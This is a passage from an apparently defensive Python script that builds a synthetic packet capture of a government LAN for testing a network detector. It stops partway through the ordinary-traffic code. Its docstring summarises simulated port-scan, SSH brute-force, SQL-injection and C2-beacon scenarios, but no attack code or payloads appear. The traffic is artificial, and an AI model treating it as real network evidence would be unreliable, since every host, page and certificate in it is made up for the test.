#!/usr/bin/python3
"""Generate samples/sample.pcap: ~20 minutes of a provincial government LAN with five scenarios.

Deterministic: fixed seeds, fixed base time (2026-03-02T01:00:00Z), no wall clock, no network.
Same bytes on every run (check with `sha256sum samples/sample.pcap` twice).

Usage:  /usr/bin/python3 samples/make_sample.py [OUTPUT]      (default: samples/sample.pcap)

Needs Debian's python3-scapy (2.5). Scapy only assembles the frames (checksums) and writes the classic
pcap file (RawPcapWriter, Ethernet link type, microsecond timestamps, little-endian).

Scenarios (tag -> what):
  ordinary     DNS (with recursion to an upstream resolver), HTTP/1.1 to the web portal and to external
               update servers, TLS 1.2 (portal, webmail) and TLS 1.3 (external sites) with SNI, inbound
               SMTP, an admin SSH session, NTP, ICMP monitoring pings
  portscan     203.0.113.66 -> 10.20.100.10, SYN scan of 300 ports in ~30 s (01:03:10)
  ssh_brute    198.51.100.23 -> 10.20.100.22:22, 30 short SSH connections in ~80 s (01:07:00)
  web_attack   203.0.113.77 -> 10.20.100.10:80, 8 recon probes then 7 SQL injection requests (01:12:00)
  c2_beacon    10.20.1.57 -> 192.0.2.200:8080, HTTP POST /api/v1/beacon every 60 s (+-2 s), 20 beacons
"""

import base64
import calendar
import hashlib
import random
import struct
import sys
import time as _time_module  # only for formatting fixed timestamps (gmtime/strftime), never the clock
from collections import Counter, OrderedDict
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.utils import RawPcapWriter

SEED = 20260302
BASE_TIME = calendar.timegm((2026, 3, 2, 1, 0, 0, 0, 0, 0))  # 2026-03-02T01:00:00Z
DURATION_S = 1200                                              # 20 minutes
US = 1_000_000


def rng_for(name):
    """One independent, seeded random stream per scenario: changing one scenario leaves the others alone."""
    return random.Random(f"vigil-sample-{SEED}-{name}")


# ----------------------------------------------------------------------------------------------------------
# Hosts
# ----------------------------------------------------------------------------------------------------------
PORTAL = "10.20.100.10"
SSH_BASTION = "10.20.100.22"
MAIL = "10.20.100.25"
DNS_SRV = "10.20.100.53"
MONITOR = "10.20.100.5"
SERVERS = [PORTAL, SSH_BASTION, MAIL, DNS_SRV]

C2_VICTIM = "10.20.1.57"
ADMIN_WS = "10.20.1.20"

UPSTREAM_DNS = "192.0.2.53"
NTP_SRV = "192.0.2.123"
EXT_MX = "203.0.113.25"

SCANNER = "203.0.113.66"
SSH_ATTACKER = "198.51.100.23"
WEB_ATTACKER = "203.0.113.77"
C2_SERVER = "192.0.2.200"

# name -> address, as the internal DNS server answers them
DNS_NAMES = OrderedDict([
    ("portal.tinhxyz.gov.vn", PORTAL),
    ("dichvucong.tinhxyz.gov.vn", PORTAL),
    ("mail.tinhxyz.gov.vn", MAIL),
    ("update.example.com", "198.51.100.80"),
    ("www.example.com", "192.0.2.10"),
    ("login.example.com", "192.0.2.20"),
    ("cdn.example.net", "203.0.113.40"),
    ("news.example.net", "203.0.113.120"),
    ("api.example.org", "198.51.100.90"),
    ("sync.example.net", C2_SERVER),
])
LOCAL_ZONE = ".tinhxyz.gov.vn"
TLS13_SITES = ["www.example.com", "login.example.com", "cdn.example.net", "news.example.net", "api.example.org"]

FW_MAC = "00:1b:17:00:01:01"  # perimeter firewall / core router: the L2 peer of every external address

# TTL as the sensor sees it (external hosts a few hops away)
EXT_TTL = {SCANNER: 47, SSH_ATTACKER: 52, WEB_ATTACKER: 49, C2_SERVER: 51, UPSTREAM_DNS: 58, NTP_SRV: 56,
           EXT_MX: 53}


def is_internal(ip):
    return ip.startswith("10.")


def mac_of(ip):
    if not is_internal(ip):
        return FW_MAC
    o = [int(x) for x in ip.split(".")]
    return "00:50:56:%02x:%02x:%02x" % (o[1], o[2], o[3])


def ttl_of(ip):
    if ip in EXT_TTL:
        return EXT_TTL[ip]
    if not is_internal(ip):
        return 54
    if ip.startswith("10.20.1."):
        return 128  # Windows workstations
    return 64       # Linux servers


def is_windows(ip):
    return ip.startswith("10.20.1.")


# ----------------------------------------------------------------------------------------------------------
# Capture
# ----------------------------------------------------------------------------------------------------------
class Capture:
    def __init__(self):
        self.pkts = []  # (t_us, n, frame bytes, tag)
        self.ipid = {}
        self.n = 0

    def next_ipid(self, ip):
        v = self.ipid.get(ip)
        if v is None:
            v = int(hashlib.sha256(ip.encode()).hexdigest()[:4], 16)
        self.ipid[ip] = (v + 1) & 0xFFFF
        return v

    def add(self, t_us, l3, tag):
        src, dst = l3.src, l3.dst
        frame = Ether(src=mac_of(src), dst=mac_of(dst)) / l3
        self.pkts.append((int(t_us), self.n, bytes(frame), tag))
        self.n += 1

    def ip(self, src, dst, df=True, ttl=None, ipid=None):
        return IP(src=src, dst=dst, ttl=ttl if ttl is not None else ttl_of(src),
                  id=ipid if ipid is not None else self.next_ipid(src), flags="DF" if df else 0)

    def write(self, path):
        self.pkts.sort(key=lambda p: (p[0], p[1]))
        w = RawPcapWriter(str(path), linktype=1, endianness="<", nano=False, snaplen=65535)
        w.write_header(None)
        last = -1
        for t_us, _, frame, _ in self.pkts:
            t_us = max(t_us, last + 1)  # strictly increasing timestamps
            last = t_us
            abs_us = BASE_TIME * US + t_us
            w.write_packet(frame, sec=abs_us // US, usec=abs_us % US)
        w.close()


class Ports:
    """Per-host ephemeral port allocator (Windows: 49152+, sequential; Linux: 32768+)."""

    def __init__(self, rng):
        self.rng = rng
        self.next = {}

    def take(self, ip):
        if ip not in self.next:
            self.next[ip] = self.rng.randint(49800, 61000) if is_windows(ip) else self.rng.randint(33000, 58000)
        p = self.next[ip]
        self.next[ip] += 1 if is_windows(ip) else self.rng.randint(1, 7)
        return p


# ----------------------------------------------------------------------------------------------------------
# TCP conversation
# ----------------------------------------------------------------------------------------------------------
MSS = 1460


class _End:
    def __init__(self, ip, port, isn, win_syn, win, wscale, opts):
        self.ip, self.port, self.seq = ip, port, isn
        self.win_syn, self.win, self.wscale, self.opts = win_syn, win, wscale, opts


def _syn_opts(ip):
    if is_windows(ip):
        return [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None), ("SAckOK", b"")]
    return [("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""), ("NOP", None), ("WScale", 7)]


class TcpConn:
    """A complete TCP conversation seen by the sensor.

    lat_c: how long after the sensor sees a packet towards the client it sees the client's reaction
    lat_s: same for the server. Times are integer microseconds from BASE_TIME.
    """

    def __init__(self, cap, rng, tag, cli, cport, srv, sport, t_us, lat_c, lat_s):
        self.cap, self.rng, self.tag = cap, rng, tag
        cw = 1026 if is_windows(cli) else 502
        self.c = _End(cli, cport, rng.getrandbits(32), 64240, cw, 8 if is_windows(cli) else 7, _syn_opts(cli))
        self.s = _End(srv, sport, rng.getrandbits(32), 65160, 509, 7,
                      [("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""), ("NOP", None), ("WScale", 7)])
        self.t = int(t_us)
        self.lat_c, self.lat_s = int(lat_c), int(lat_s)
        self.opened = False

    def _ends(self, from_cli):
        return (self.c, self.s) if from_cli else (self.s, self.c)

    def _lat(self, of_cli):
        return self.lat_c if of_cli else self.lat_s

    def emit(self, from_cli, flags, payload=b"", t=None, ack=None, seq=None, win=None, options=None):
        a, b = self._ends(from_cli)
        if ack is None:
            ack = b.seq if "A" in flags else 0
        tcp = TCP(sport=a.port, dport=b.port, seq=(a.seq if seq is None else seq) & 0xFFFFFFFF,
                  ack=ack & 0xFFFFFFFF, flags=flags, window=a.win if win is None else win,
                  options=options or [])
        pkt = self.cap.ip(a.ip, b.ip) / tcp
        if payload:
            pkt = pkt / payload
        self.cap.add(self.t if t is None else t, pkt, self.tag)

    def open(self, think=0):
        self.t += think
        c, s = self.c, self.s
        self.emit(True, "S", ack=0, win=c.win_syn, options=c.opts)
        c.seq += 1
        self.t += self.lat_s
        self.emit(False, "SA", win=s.win_syn, options=s.opts)
        s.seq += 1
        self.t += self.lat_c
        self.emit(True, "A")
        self.opened = True
        return self

    def send(self, from_cli, data, think=0, reply_follows=True):
        """Send data (segmented at the MSS). The receiver ACKs every second segment; the last segment is
        ACKed by the reply (piggyback) when reply_follows, else by a delayed ACK."""
        if not data:
            return self
        self.t += think
        a, _ = self._ends(from_cli)
        rlat = self._lat(not from_cli)
        t = self.t
        segs = [data[i:i + MSS] for i in range(0, len(data), MSS)]
        last_t = t
        for i, seg in enumerate(segs):
            last = i == len(segs) - 1
            self.emit(from_cli, "PA" if last else "A", seg, t=t)
            a.seq += len(seg)
            if i % 2 == 1 and not (last and reply_follows):
                self.emit(not from_cli, "A", t=t + rlat, ack=a.seq)
            last_t = t
            t += 12 + len(seg) // 12 + self.rng.randint(0, 40)  # ~100 Mbit/s serialisation + jitter
        self.t = last_t + rlat
        if not reply_follows and (len(segs) - 1) % 2 == 0:
            self.t += 40_000  # delayed ACK timer
            self.emit(not from_cli, "A", ack=a.seq)
        return self

    def close(self, from_cli, think=0):
        self.t += think
        a, b = self._ends(from_cli)
        self.emit(from_cli, "FA")
        a.seq += 1
        self.t += self._lat(not from_cli)
        self.emit(not from_cli, "FA")
        b.seq += 1
        self.t += self._lat(from_cli)
        self.emit(from_cli, "A")
        return self

    def reset(self, from_cli, think=0):
        self.t += think
        self.emit(from_cli, "RA", win=0)
        return self


# ----------------------------------------------------------------------------------------------------------
# Protocol payload builders
# ----------------------------------------------------------------------------------------------------------
def http_date(t_us):
    return _time_module.strftime("%a, %d %b %Y %H:%M:%S GMT", _time_module.gmtime(BASE_TIME + t_us // US))


def http_request(method, target, headers, body=b""):
    lines = [f"{method} {target} HTTP/1.1"] + [f"{k}: {v}" for k, v in headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def http_response(status, reason, t_us, ctype, body, server="nginx/1.22.1", extra=(), close=False):
    headers = [("Server", server), ("Date", http_date(t_us)), ("Content-Type", ctype),
               ("Content-Length", str(len(body)))] + list(extra)
    headers.append(("Connection", "close" if close else "keep-alive"))
    head = f"HTTP/1.1 {status} {reason}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers) + "\r\n"
    return head.encode() + body


VI_WORDS = ("Ủy ban nhân dân tỉnh thông báo về việc triển khai kế hoạch chuyển đổi số năm 2026 cải cách hành "
            "chính dịch vụ công trực tuyến hướng dẫn người dân doanh nghiệp hồ sơ thủ tục quyết định sở nội vụ "
            "an toàn thông tin mạng giáo dục y tế nông nghiệp phát triển nông thôn giao thông vận tải tài nguyên "
            "môi trường lịch tiếp công dân văn bản chỉ đạo điều hành hội nghị trực tuyến xã phường thị trấn "
            "kết quả giải quyết phản ánh kiến nghị tuyển dụng công chức viên chức").split()


def vi_text(rng, words):
    out = []
    for i in range(words):
        w = rng.choice(VI_WORDS)
        out.append(w.capitalize() if i == 0 or out[-1].endswith(".") else w)
        if rng.random() < 0.08:
            out[-1] += "."
    return " ".join(out) + "."


def portal_page(rng, title, paragraphs):
    paras = "\n".join(f"    <p>{vi_text(rng, rng.randint(30, 80))}</p>" for _ in range(paragraphs))
    links = "\n".join(f'      <li><a href="/tintuc/chitiet.php?id={rng.randint(1000, 1999)}">{vi_text(rng, 8)}</a></li>'
                      for _ in range(rng.randint(3, 6)))
    html = f"""<!DOCTYPE html>
<html lang="vi">
<head>
  <meta charset="utf-8">
  <title>{title} - Cổng thông tin điện tử tỉnh XYZ</title>
  <link rel="stylesheet" href="/static/css/main.css">
</head>
<body>
  <header><h1>Cổng thông tin điện tử tỉnh XYZ</h1></header>
  <main>
    <h2>{title}</h2>
{paras}
    <ul class="tin-lien-quan">
{links}
    </ul>
  </main>
  <footer>Bản quyền © 2026 Ủy ban nhân dân tỉnh XYZ</footer>
</body>
</html>
"""
    return html.encode("utf-8")


UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/121.0.214 Chrome/115.0.5790.214 Safari/537.36",
]


def browser_headers(host, ua, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", cookie=None,
                    referer=None):
    h = [("Host", host), ("User-Agent", ua), ("Accept", accept),
         ("Accept-Language", "vi-VN,vi;q=0.9,en-US;q=0.8,en;q=0.7"), ("Accept-Encoding", "identity"),
         ("Connection", "keep-alive")]
    if referer:
        h.append(("Referer", referer))
    if cookie:
        h.append(("Cookie", cookie))
    return h


# --- TLS ----------------------------------------------------------------------------------------------------
PORTAL_CERT = bytes.fromhex(
    # Ed25519 test certificate for portal.tinhxyz.gov.vn / mail.tinhxyz.gov.vn, issued by "Example Test CA R1".
    # Made once with python3-cryptography from fixed keys (sha256 of fixed strings), fixed serial and dates;
    # embedded so the generator needs nothing but scapy.
    "308201983082014aa00302010202085a17e0c0ffee2026300506032b65703044310b300906035504061302564e311830"
    "16060355040a0c0f4578616d706c652054657374204341311b301906035504030c124578616d706c6520546573742043"
    "41205231301e170d3236303130353030303030305a170d3237303130353030303030305a3045310b3009060355040613"
    "02564e31163014060355040a0c0d55424e442074696e682058595a311e301c06035504030c15706f7274616c2e74696e"
    "6878797a2e676f762e766e302a300506032b6570032100f31dfae58faa84fc2248410b75b1ff932b88727c519f6274b9"
    "a9239c9bffa501a359305730470603551d110440303e8215706f7274616c2e74696e6878797a2e676f762e766e82136d"
    "61696c2e74696e6878797a2e676f762e766e82102a2e74696e6878797a2e676f762e766e300c0603551d130101ff0402"
    "3000300506032b65700341001abe3cf7c5e5a358f8ce664fb6dbffd9b0192197894d1adbaf78271ac81a903ba23960a3"
    "06b8d8a0847c983eee6b7f3cf0467343d40bc1b0932256abdb21fd02")


def u8(n):
    return struct.pack("!B", n)


def u16(n):
    return struct.pack("!H", n)


def u24(n):
    return struct.pack("!I", n)[1:]


def tls_record(ctype, body, version=0x0303):
    return u8(ctype) + u16(version) + u16(len(body)) + body


def tls_handshake(htype, body):
    return u8(htype) + u24(len(body)) + body


def tls_ext(etype, body):
    return u16(etype) + u16(len(body)) + body


def client_hello(rng, sni):
    random32 = rng.randbytes(32)
    sid = rng.randbytes(32)
    suites = [0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8, 0xC013, 0xC014, 0x009C,
              0x009D, 0x002F, 0x0035]
    name = sni.encode()
    exts = b"".join([
        tls_ext(0x0000, u16(len(name) + 3) + u8(0) + u16(len(name)) + name),             # server_name
        tls_ext(0x0017, b""),                                                              # extended_master_secret
        tls_ext(0xFF01, b"\x00"),                                                          # renegotiation_info
        tls_ext(0x000A, u16(6) + u16(0x001D) + u16(0x0017) + u16(0x0018)),                 # supported_groups
        tls_ext(0x000B, b"\x01\x00"),                                                      # ec_point_formats
        tls_ext(0x0023, b""),                                                              # session_ticket
        tls_ext(0x0010, u16(12) + b"\x02h2" + b"\x08http/1.1"),                            # ALPN
        tls_ext(0x0005, b"\x01\x00\x00\x00\x00"),                                          # status_request
        tls_ext(0x000D, u16(18) + b"".join(u16(x) for x in (0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501,
                                                             0x0806, 0x0601, 0x0807))),    # signature_algorithms
        tls_ext(0x0012, b""),                                                              # SCT
        tls_ext(0x0033, u16(36) + u16(0x001D) + u16(32) + rng.randbytes(32)),              # key_share x25519
        tls_ext(0x002D, b"\x01\x01"),                                                      # psk_key_exchange_modes
        tls_ext(0x002B, b"\x04\x03\x04\x03\x03"),                                          # supported_versions
    ])
    body = (u16(0x0303) + random32 + u8(32) + sid + u16(2 * len(suites)) + b"".join(u16(s) for s in suites)
            + b"\x01\x00" + u16(len(exts)) + exts)
    return tls_record(22, tls_handshake(1, body), version=0x0301), sid


def server_hello(rng, sid, tls13):
    if tls13:
        exts = tls_ext(0x002B, u16(0x0304)) + tls_ext(0x0033, u16(0x001D) + u16(32) + rng.randbytes(32))
        suite = 0x1301
    else:
        exts = tls_ext(0xFF01, b"\x00") + tls_ext(0x000B, b"\x01\x00") + tls_ext(0x0017, b"") + \
            tls_ext(0x0010, u16(9) + b"\x08http/1.1")
        suite = 0xC02B  # ECDHE-ECDSA-AES128-GCM-SHA256 (Ed25519 certificate)
    body = u16(0x0303) + rng.randbytes(32) + u8(32) + sid + u16(suite) + b"\x00" + u16(len(exts)) + exts
    return tls_record(22, tls_handshake(2, body))


def tls12_server_flight(rng, sid):
    cert = tls_handshake(11, u24(len(PORTAL_CERT) + 3) + u24(len(PORTAL_CERT)) + PORTAL_CERT)
    ske = tls_handshake(12, b"\x03" + u16(0x001D) + u8(32) + rng.randbytes(32) + u16(0x0807) + u16(64)
                        + rng.randbytes(64))
    done = tls_handshake(14, b"")
    return server_hello(rng, sid, False) + tls_record(22, cert) + tls_record(22, ske) + tls_record(22, done)


def tls_app_data(rng, plain_len, overhead):
    """Application data records for plain_len bytes of (invisible) plaintext."""
    out = b""
    while plain_len > 0:
        n = min(plain_len, 16384)
        out += tls_record(23, rng.randbytes(n + overhead))
        plain_len -= n
    return out


CCS = tls_record(20, b"\x01")


def tls_session(conn, rng, sni, tls13, exchanges, close_by_client=True):
    """Handshake + `exchanges` = [(request_len, response_len), ...] + close_notify + FIN."""
    ch, sid = client_hello(rng, sni)
    conn.send(True, ch, think=rng.randint(200, 2000))
    if tls13:
        ov = 17  # content type byte + 16-byte AEAD tag
        flight = server_hello(rng, sid, True) + CCS + tls_record(23, rng.randbytes(rng.randint(1400, 2600)))
        conn.send(False, flight, think=rng.randint(300, 3000))
        conn.send(True, CCS + tls_record(23, rng.randbytes(53)), think=rng.randint(200, 800),
                  reply_follows=False)
        # NewSessionTicket x2 (encrypted), sent by the server right after the client Finished
        conn.send(False, tls_record(23, rng.randbytes(233)) + tls_record(23, rng.randbytes(233)),
                  think=rng.randint(100, 500), reply_follows=False)
    else:
        ov = 24  # 8-byte explicit nonce + 16-byte GCM tag
        conn.send(False, tls12_server_flight(rng, sid), think=rng.randint(300, 3000))
        cke = tls_record(22, tls_handshake(16, u8(32) + rng.randbytes(32)))
        conn.send(True, cke + CCS + tls_record(22, rng.randbytes(40)), think=rng.randint(200, 800))
        conn.send(False, CCS + tls_record(22, rng.randbytes(40)), think=rng.randint(200, 800))
    for req_len, resp_len in exchanges:
        conn.send(True, tls_app_data(rng, req_len, ov), think=rng.randint(1_000, 30_000))
        conn.send(False, tls_app_data(rng, resp_len, ov), think=rng.randint(2_000, 60_000), reply_follows=False)
    alert = tls_record(23, rng.randbytes(2 + 17)) if tls13 else tls_record(21, rng.randbytes(26))
    conn.send(close_by_client, alert, think=rng.randint(2 * US, 15 * US), reply_follows=False)
    conn.close(close_by_client, think=rng.randint(100, 2000))


# --- SSH ----------------------------------------------------------------------------------------------------
def ssh_string(b):
    if isinstance(b, str):
        b = b.encode()
    return struct.pack("!I", len(b)) + b


def ssh_packet(rng, payload, block=8):
    pad = block - ((5 + len(payload)) % block)
    if pad < 4:
        pad += block
    return struct.pack("!IB", 1 + len(payload) + pad, pad) + payload + rng.randbytes(pad)


def ssh_kexinit(rng, server):
    if server:
        lists = ["curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
                 "ecdh-sha2-nistp521,sntrup761x25519-sha512@openssh.com,diffie-hellman-group-exchange-sha256,"
                 "diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,"
                 "kex-strict-s-v00@openssh.com",
                 "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519"]
    else:
        lists = ["curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
                 "ecdh-sha2-nistp521,diffie-hellman-group18-sha512,diffie-hellman-group16-sha512,"
                 "diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group1-sha1,"
                 "diffie-hellman-group14-sha1,ext-info-c",
                 "ssh-ed25519,ecdsa-sha2-nistp521,ecdsa-sha2-nistp384,ecdsa-sha2-nistp256,rsa-sha2-512,"
                 "rsa-sha2-256,ssh-rsa"]
    ciphers = "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com"
    macs = ("umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,"
            "hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1")
    comp = "none,zlib@openssh.com" if server else "none"
    lists += [ciphers, ciphers, macs, macs, comp, comp, "", ""]
    payload = b"\x14" + rng.randbytes(16) + b"".join(ssh_string(x) for x in lists) + b"\x00" + b"\x00\x00\x00\x00"
    return ssh_packet(rng, payload)


def ssh_kex_ecdh_init(rng):
    return ssh_packet(rng, b"\x1e" + ssh_string(rng.randbytes(32)))


def ssh_kex_ecdh_reply_newkeys(rng):
    hostkey = ssh_string("ssh-ed25519") + ssh_string(rng.randbytes(32))
    sig = ssh_string("ssh-ed25519") + ssh_string(rng.randbytes(64))
    reply = ssh_packet(rng, b"\x1f" + ssh_string(hostkey) + ssh_string(rng.randbytes(32)) + ssh_string(sig))
    return reply + ssh_packet(rng, b"\x15")


def ssh_encrypted(rng, plain_len):
    """chacha20-poly1305 packet: 4-byte encrypted length + encrypted body (multiple of 8) + 16-byte MAC."""
    body = plain_len + 1
    body += 8 - (body + 4) % 8 if (body + 4) % 8 else 0
    body = max(body, 12)
    return rng.randbytes(4 + body + 16)


def ssh_session_start(conn, rng, client_banner, server_banner):
    """Banners, KEXINIT, ECDH, NEWKEYS. Returns after the client's NEWKEYS."""
    conn.send(False, server_banner, think=rng.randint(1_500, 6_000))
    conn.send(True, client_banner, think=rng.randint(300, 3_000), reply_follows=False)
    conn.send(True, ssh_kexinit(rng, False), think=rng.randint(100, 800))
    conn.send(False, ssh_kexinit(rng, True), think=rng.randint(100, 800), reply_follows=False)
    conn.send(True, ssh_kex_ecdh_init(rng), think=rng.randint(200, 2_000))
    conn.send(False, ssh_kex_ecdh_reply_newkeys(rng), think=rng.randint(800, 4_000))
    conn.send(True, ssh_packet(rng, b"\x15") + ssh_encrypted(rng, 17), think=rng.randint(300, 2_000))  # NEWKEYS + SERVICE_REQUEST
    conn.send(False, ssh_encrypted(rng, 17), think=rng.randint(100, 600))                           # SERVICE_ACCEPT


# --- DNS ----------------------------------------------------------------------------------------------------
def dns_exchange(cap, rng, tag, t_us, client, sport, server, name, qtype, answer_ip, rtt_us, ttl=300, txid=None):
    txid = rng.getrandbits(16) if txid is None else txid
    q = DNS(id=txid, rd=1, qd=DNSQR(qname=name, qtype=qtype))
    cap.add(t_us, cap.ip(client, server, df=False) / UDP(sport=sport, dport=53) / q, tag)
    if qtype == "A" and answer_ip:
        an = DNSRR(rrname=name, type="A", rclass="IN", ttl=ttl, rdata=answer_ip)
        r = DNS(id=txid, qr=1, rd=1, ra=1, aa=1 if name.endswith(LOCAL_ZONE) else 0, qd=DNSQR(qname=name, qtype=qtype),
                an=an)
    else:  # NOERROR, no data (AAAA for IPv4-only names)
        r = DNS(id=txid, qr=1, rd=1, ra=1, aa=1 if name.endswith(LOCAL_ZONE) else 0, qd=DNSQR(qname=name, qtype=qtype))
    cap.add(t_us + rtt_us, cap.ip(server, client, df=False) / UDP(sport=53, dport=sport) / r, tag)


class Resolver:
    """The data-center DNS server: answers local names itself, recurses to the upstream for the rest (cached)."""

    def __init__(self, cap, rng, ports):
        self.cap, self.rng, self.ports = cap, rng, ports
        # key -> fetch times. Lookups are generated out of time order, so "cached at t" means some fetch
        # happened in (t - TTL, t].
        self.cache = {}
        self.client_cache = {}

    @staticmethod
    def _cached(store, key, t_us):
        return any(f <= t_us < f + 300 * US for f in store.get(key, ()))

    def lookup(self, client, name, t_us, tag="ordinary", qtype="A"):
        """A workstation resolves `name` (skipped if the workstation has it cached). Returns time when done."""
        key = (client, name, qtype)
        if qtype == "A" and self._cached(self.client_cache, key, t_us):
            return t_us
        rng = self.rng
        sport = self.ports.take(client)
        answer = DNS_NAMES.get(name) if qtype == "A" else None
        rtt = rng.randint(300, 900)
        if not name.endswith(LOCAL_ZONE) and not self._cached(self.cache, (name, qtype), t_us):
            # recursion upstream: query leaves 0.2 ms after the client's query arrives
            up_t = t_us + 200
            up_rtt = rng.randint(18_000, 45_000)
            dns_exchange(self.cap, rng, tag, up_t, DNS_SRV, rng.randint(1024, 65000), UPSTREAM_DNS, name, qtype,
                         answer, up_rtt, ttl=300)
            self.cache.setdefault((name, qtype), []).append(t_us)
            rtt = 200 + up_rtt + rng.randint(100, 300)
        dns_exchange(self.cap, rng, tag, t_us, client, sport, DNS_SRV, name, qtype, answer, rtt, ttl=300)
        if qtype == "A":
            self.client_cache.setdefault(key, []).append(t_us)
        return t_us + rtt + rng.randint(200, 1500)


# ----------------------------------------------------------------------------------------------------------
# Scenarios
# ----------------------------------------------------------------------------------------------------------
def ordinary(cap, ports):
    rng = rng_for("ordinary")
    res = Resolver(cap, rng, ports)
    workstations = sorted({f"10.20.1.{n}" for n in rng.sample(range(11, 90), 24)} | {C2_VICTIM, ADMIN_WS},
                          key=lambda ip: int(ip.split(".")[-1]))
    ua_of = {ws: rng.choice(UA_BROWSERS) for ws in workstations}
    cookie_of = {ws: "PHPSESSID=" + rng.randbytes(13).hex() for ws in workstations}
    ext_count = Counter()  # (ws, dest) -> connections, kept < 8 so ordinary browsing never looks like a beacon

    def lan_lat():
        return rng.randint(150, 600)

    # --- HTTP to the web portal ------------------------------------------------------------------------
    portal_pages = ["/", "/tintuc/chitiet.php?id={}", "/tintuc/danhsach.php?chuyenmuc={}&trang=1",
                    "/vanban/tracuu.php?so={}%2FQD-UBND&nam=2026", "/lich-cong-tac/tuan-10-2026.html",
                    "/dichvucong/huong-dan.html"]
    for _ in range(36):
        ws = rng.choice(workstations)
        t = rng.randint(2 * US, 1140 * US)
        t = res.lookup(ws, "portal.tinhxyz.gov.vn", t)
        conn = TcpConn(cap, rng, "ordinary", ws, ports.take(ws), PORTAL, 80, t, lan_lat(), lan_lat()).open()
        page = rng.choice(portal_pages).format(rng.randint(1000, 1999))
        reqs = [(page, "text/html; charset=utf-8")]
        if rng.random() < 0.5:
            reqs.append(("/static/css/main.css", "text/css"))
        if rng.random() < 0.5:
            reqs.append((f"/api/thongbao?trang=1&_={BASE_TIME * 1000 + t // 1000}", "application/json"))
        for i, (path, ctype) in enumerate(reqs):
            accept = {"text/css": "text/css,*/*;q=0.1", "application/json": "application/json, text/plain, */*"}.get(
                ctype, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
            req = http_request("GET", path, browser_headers("portal.tinhxyz.gov.vn", ua_of[ws], accept, cookie_of[ws],
                                                            None if i == 0 else "http://portal.tinhxyz.gov.vn" + page))
            conn.send(True, req, think=rng.randint(500, 4000) if i == 0 else rng.randint(20_000, 200_000))
            if ctype.startswith("text/html"):
                body = portal_page(rng, vi_text(rng, rng.randint(6, 12)).rstrip("."), rng.randint(1, 5))
            elif ctype == "text/css":
                body = ("body{font-family:Roboto,Arial,sans-serif;margin:0;color:#222}\n"
                        "header{background:#b71c1c;color:#fff;padding:12px 24px}\n"
                        "main{max-width:1080px;margin:0 auto;padding:16px}\n"
                        ".tin-lien-quan li{margin:4px 0}\nfooter{font-size:12px;color:#666;padding:24px}\n").encode()
            else:
                items = ",".join('{"id":%d,"tieu_de":"%s","ngay":"2026-03-0%d"}' % (
                    rng.randint(300, 999), vi_text(rng, rng.randint(6, 14)), rng.randint(1, 2))
                    for _ in range(rng.randint(3, 8)))
                body = ('{"trang":1,"tong":%d,"du_lieu":[%s]}' % (rng.randint(40, 200), items)).encode("utf-8")
            conn.send(False, http_response(200, "OK", conn.t, ctype, body), think=rng.randint(1_000, 25_000),
                      reply_follows=False)
        conn.close(False, think=5 * US + rng.randint(0, 50_000))  # nginx keepalive_timeout

    # --- HTTP to external update servers ----------------------------------------------------------------
    for _ in range(8):
        ws = rng.choice(workstations)
        if ext_count[(ws, "update.example.com")] >= 7:
            continue
        ext_count[(ws, "update.example.com")] += 1
        t = rng.randint(2 * US, 1140 * US)
        t = res.lookup(ws, "update.example.com", t)
        conn = TcpConn(cap, rng, "ordinary", ws, ports.take(ws), DNS_NAMES["update.example.com"], 80, t,
                       lan_lat(), rng.randint(25_000, 60_000)).open()
        req = http_request("GET", "/v2/manifest.json?channel=stable&os=win10", [
            ("Host", "update.example.com"), ("User-Agent", "ExampleUpdater/4.2.1 (Windows NT 10.0; x64)"),
            ("Accept", "application/json"), ("Connection", "close")])
        conn.send(True, req, think=rng.randint(500, 3000))
        files = ",".join('{"name":"pkg-%d.cab","sha256":"%s","size":%d}' % (i, rng.randbytes(32).hex(),
                                                                           rng.randint(10_000, 9_000_000))
                         for i in range(rng.randint(3, 12)))
        body = ('{"channel":"stable","version":"4.2.%d","files":[%s]}' % (rng.randint(2, 9), files)).encode()
        conn.send(False, http_response(200, "OK", conn.t, "application/json", body, server="ExampleCDN",
                                       extra=[("Cache-Control", "max-age=3600")], close=True),
                  think=rng.randint(2_000, 20_000), reply_follows=False)
        conn.close(False, think=rng.randint(100, 500))

    # --- TLS 1.2 to the portal (HTTPS) and webmail -------------------------------------------------------
